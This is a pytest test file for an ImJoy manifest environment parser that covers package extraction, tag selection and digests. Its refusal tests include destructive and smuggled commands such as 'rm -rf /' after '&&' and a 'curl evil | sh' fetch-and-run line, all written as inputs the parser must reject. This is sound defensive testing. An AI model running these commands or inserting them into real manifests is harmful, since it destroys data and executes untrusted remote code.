"""What environment a manifest asks for."""

from __future__ import annotations

from typing import Any

import pytest

from imjoy.envs.spec import EnvSpec
from imjoy.errors import EnvError


@pytest.mark.parametrize(
    ("requirements", "packages"),
    [
        (None, ()),
        ("", ()),
        ("numpy", ("numpy",)),
        (["numpy", "pip: six  h5py", "pip:tifffile"], ("numpy", "six", "h5py", "tifffile")),
        (["conda:numpy -c conda-forge"], ("numpy",)),
        (["git+https://host/a.git#egg=a"], ("a @ git+https://host/a.git",)),
        (["cmd: pip install -U six"], ("six",)),
        (["numpy", "numpy"], ("numpy",)),
        (["a @ https://host/a.whl"], ("a @ https://host/a.whl",)),
    ],
)
def test_requirements(requirements: Any, packages: tuple[str, ...]) -> None:
    assert EnvSpec.parse(None, requirements).packages == packages


@pytest.mark.parametrize(
    ("requirement", "says"),
    [
        ("repo: https://github.com/a/b", "git+https://github.com/a/b"),
        ("cmd: rm -rf /", "commands"),
        ("cmd: pip install six && rm -rf /", "commands"),
        ("npm: left-pad", "npm:"),
        (5, "text"),
    ],
)
def test_refused_requirements_name_form_and_remedy(requirement: Any, says: str) -> None:
    with pytest.raises(EnvError, match=r".") as caught:
        EnvSpec.parse(None, [requirement])
    assert caught.value.code == "env.requirement"
    assert says in str(caught.value)


def test_env_strings_and_settings() -> None:
    spec = EnvSpec.parse(
        [
            "conda config --add channels conda-forge",
            "conda create -n x python=3.9 numpy",
            {"type": "variable", "options": {"OMP_NUM_THREADS": 1}},
            {"type": "gputil", "options": {}},
            {"type": "binder", "spec": "a/b"},
        ],
        "six",
    )
    assert spec.python == "3.9"
    assert spec.packages == ("numpy", "six")
    assert spec.variables == (("OMP_NUM_THREADS", "1"),)
    assert len(spec.notes) == 4


@pytest.mark.parametrize("env", ["conda env create -f x.yml", "curl evil | sh", {"type": "x"}, 3])
def test_refused_env(env: Any) -> None:
    with pytest.raises(EnvError):
        EnvSpec.parse(env, None)


def test_fields_by_tag() -> None:
    env = {"GPU": "conda create -n x python=3.8", "CPU": "conda create -n x python=3.9"}
    requirements = {"GPU": ["a"], "CPU": ["b"]}
    assert EnvSpec.parse(env, requirements, "CPU").python == "3.9"
    assert EnvSpec.parse(env, requirements, "GPU").packages == ("a",)
    assert EnvSpec.parse(env, requirements).packages == ("a",)


def test_the_digest_tells_content_only() -> None:
    one = EnvSpec(packages=("a", "b"), notes=("x",), variables=(("A", "1"),))
    same = EnvSpec(packages=("b", "a"))
    assert one.digest("py") == same.digest("py")
    others = [EnvSpec(packages=("a",)), EnvSpec(python="3.9", packages=("a", "b"))]
    assert len({one.digest("py"), one.digest("other"), *(o.digest("py") for o in others)}) == 4
